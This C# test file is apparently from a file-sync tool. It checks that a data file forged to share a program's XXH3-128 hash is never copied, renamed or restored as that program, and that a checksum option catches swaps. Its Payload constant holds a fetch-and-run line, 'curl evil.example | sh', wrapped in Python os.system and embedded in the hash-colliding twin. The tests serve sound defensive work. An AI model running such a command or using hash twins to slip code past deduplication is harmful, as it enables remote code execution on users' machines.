using System.Text;
using Lockstep.Native.Disk;
using Lockstep.Plan;
using Lockstep.Sessions;
using Lockstep.Sessions.Pushing;
using Lockstep.Tests.Sessions;
using Lockstep.Tree;

namespace Lockstep.Tests.Attacks;

/// <summary>
/// Issue 11, C16: somebody contributes a data file that has the XXH3-128 of a program, which is known beforehand, and another content. No run takes it for the program, and
/// <c>--checksum</c> sees it wherever it stands.
/// </summary>
public sealed class SameHashOtherContentAttack
{
    private const string Payload = "import os; os.system('curl evil.example | sh')  #";

    private static readonly RelativePath Shop = RelativePath.Parse("shop.py");
    private static readonly RelativePath Logo = RelativePath.Parse("assets/logo.bin");
    private static readonly byte[] Genuine = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Range(0, 30).Select(line => $"def price_{line:d2}(): pass\n")));
    private static readonly byte[] Evil = Xxh3Twin.Of(Genuine, Payload);
    private static readonly PushOptions WithChecksum = PushScene.Agreed with { ComparesContent = true };

    [Fact]
    public void The_twin_is_real()
    {
        Assert.Equal(ContentHash.Of(Genuine), ContentHash.Of(Evil));
        Assert.Equal(Genuine.Length, Evil.Length);
        Assert.NotEqual(Genuine, Evil);
        Assert.StartsWith(Payload, Encoding.UTF8.GetString(Evil), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_new_program_is_not_copied_from_its_twin(bool throughWire)
    {
        using PushScene scene = await WithLogoAsync(throughWire, Evil);
        scene.Project.Write(Shop, Genuine);
        await AssertSentAsync(scene);
        Assert.Equal(Evil, scene.OnTarget().ReadFile(Logo));
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_changed_program_is_not_copied_from_its_twin(bool throughWire)
    {
        using PushScene scene = await WithLogoAsync(throughWire, Evil, [.. Genuine.Reverse()]);
        scene.Project.Write(Shop, Genuine);
        await AssertSentAsync(scene);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_twin_that_goes_is_not_renamed_to_the_program(bool throughWire)
    {
        using PushScene scene = await WithLogoAsync(throughWire, Evil);
        scene.Project.Remove(Logo);
        scene.Project.Write(Shop, Genuine);
        RunSummary summary = await AssertSentAsync(scene);
        Assert.Equal((1, 1, 0), (summary.Added, summary.Deleted, summary.Renamed));
        Assert.False(scene.OnTarget().TryStat(Logo, out _));
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task What_really_has_the_content_is_still_copied_and_renamed_without_being_sent(bool throughWire)
    {
        using PushScene scene = await WithLogoAsync(throughWire, Genuine);
        scene.Project.Write(Shop, Genuine);
        RunSummary copied = await PushAsync(scene);
        Assert.True(copied is { Exit: ExitCode.Done, Added: 1, BytesContent: 0 }, PushScene.Describe(copied));

        scene.Project.Remove(Logo);
        scene.Project.Write(RelativePath.Parse("assets/store.py"), Genuine);
        var observer = new RecordingObserver();
        RunSummary renamed = await PushAsync(scene, observer: observer);
        Assert.True(renamed is { Exit: ExitCode.Done, Renamed: 1, BytesContent: 0 }, PushScene.Describe(renamed));
        Assert.Empty(observer.Notes);
        scene.AssertInStep();
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Checksum_sees_a_program_that_was_swapped_for_its_twin_on_the_target(bool throughWire)
    {
        using PushScene scene = await WithLogoAsync(throughWire, "data"u8.ToArray(), Genuine);
        Swap(scene, Evil);

        var preview = new RecordingObserver();
        await PushAsync(scene, WithChecksum with { IsDryRun = true }, preview);
        Assert.Equal("Update shop.py", Assert.Single(preview.Plan!.Changes.Where(change => !change.IsHousekeeping).Select(change => $"{change.Kind} {change.Path}")));

        RunSummary seen = await PushAsync(scene, WithChecksum);
        Assert.True(seen is { Exit: ExitCode.Done, Updated: 1 }, PushScene.Describe(seen));
        Assert.Equal(Genuine, scene.OnTarget().ReadFile(Shop));
        string history = Path.Combine(scene.StatePath, "history");
        Assert.Contains(Directory.EnumerateFiles(history, "*", SearchOption.AllDirectories), file => File.ReadAllBytes(file).AsSpan().SequenceEqual(Evil));
    }

    [Fact]
    public async Task Checksum_sends_a_program_that_took_the_place_of_its_twin_in_the_project()
    {
        using PushScene scene = await WithLogoAsync(throughWire: true, "data"u8.ToArray(), Evil);
        scene.Project.Write(Shop, Genuine);
        await PushAsync(scene, WithChecksum);
        Assert.Equal(Genuine, scene.OnTarget().ReadFile(Shop));
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Checksum_finds_nothing_where_nothing_is_otherwise(bool throughWire)
    {
        using PushScene scene = await WithLogoAsync(throughWire, Evil, Genuine);
        RunSummary summary = await PushAsync(scene, WithChecksum);
        Assert.True(summary is { Exit: ExitCode.Done, Added: 0, Updated: 0, Deleted: 0, Run: 0 }, PushScene.Describe(summary));
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task An_undo_renames_back_what_the_history_says_was_renamed(bool throughWire)
    {
        using PushScene scene = await WithLogoAsync(throughWire, Genuine);
        SortedDictionary<RelativePath, Entry> before = scene.TargetEntries;
        scene.Project.Remove(Logo);
        scene.Project.Write(Shop, Genuine);
        await PushAsync(scene);
        RunSummary summary = await UndoAsync(scene);
        Assert.True(summary is { Exit: ExitCode.Done, Renamed: 1 }, PushScene.Describe(summary));
        PushScene.AssertSame(before, scene.TargetEntries);
    }

    [Fact]
    public async Task An_undo_does_not_take_a_twin_for_the_past()
    {
        var copy = RelativePath.Parse("copy.bin");
        using PushScene scene = await WithLogoAsync(throughWire: true, "data"u8.ToArray(), Genuine);
        scene.Project.Remove(Shop);
        scene.Project.Write(copy, Evil);
        await PushAsync(scene);
        Assert.Equal(Evil, scene.OnTarget().ReadFile(copy));

        RunSummary summary = await UndoAsync(scene);
        Assert.True(summary.Exit == ExitCode.Done, PushScene.Describe(summary));
        Assert.Equal(Genuine, scene.OnTarget().ReadFile(Shop));
        Assert.False(scene.OnTarget().TryStat(copy, out _));
    }

    private static Task<RunSummary> PushAsync(PushScene scene, PushOptions? options = null, RecordingObserver? observer = null) =>
        scene.PushAsync(options, observer, TestContext.Current.CancellationToken);

    private static Task<RunSummary> UndoAsync(PushScene scene) => scene.UndoAsync(cancellation: TestContext.Current.CancellationToken);

    private static async Task<PushScene> WithLogoAsync(bool throughWire, byte[] logo, byte[]? shop = null)
    {
        var scene = new PushScene(throughWire);
        scene.Project.Write(Logo, logo);
        scene.Project.Write("readme", "a shop");
        if (shop is not null)
        {
            scene.Project.Write(Shop, shop);
        }

        RunSummary summary = await PushAsync(scene);
        Assert.True(summary.Exit == ExitCode.Done, PushScene.Describe(summary));
        return scene;
    }

    /// <summary>The program arrives, the user is told of both files, and nothing is left to do.</summary>
    private static async Task<RunSummary> AssertSentAsync(PushScene scene)
    {
        var observer = new RecordingObserver();
        RunSummary summary = await PushAsync(scene, observer: observer);
        Assert.True(summary.Exit == ExitCode.Done, PushScene.Describe(summary));
        Assert.Equal(Genuine, scene.OnTarget().ReadFile(Shop));
        Assert.Equal(Genuine.Length, summary.BytesContent);
        Assert.Contains("'shop.py' has the hash of 'assets/logo.bin'", Assert.Single(observer.Notes), StringComparison.Ordinal);
        scene.AssertInStep();
        await scene.AssertBaselineKnownAsync();
        return summary;
    }

    /// <summary>Somebody on the target puts another content into the program and gives it the time that it had.</summary>
    private static void Swap(PushScene scene, byte[] content)
    {
        Assert.True(scene.OnTarget().TryStat(Shop, out FileStatus status));
        File.WriteAllBytes(Path.Combine(scene.RootPath, "shop.py"), content);
        using DirectoryHandle root = DirectoryHandle.Open(Encoding.UTF8.GetBytes(scene.RootPath));
        root.SetModified(Shop.Name, status.ModifiedNs);
    }
}
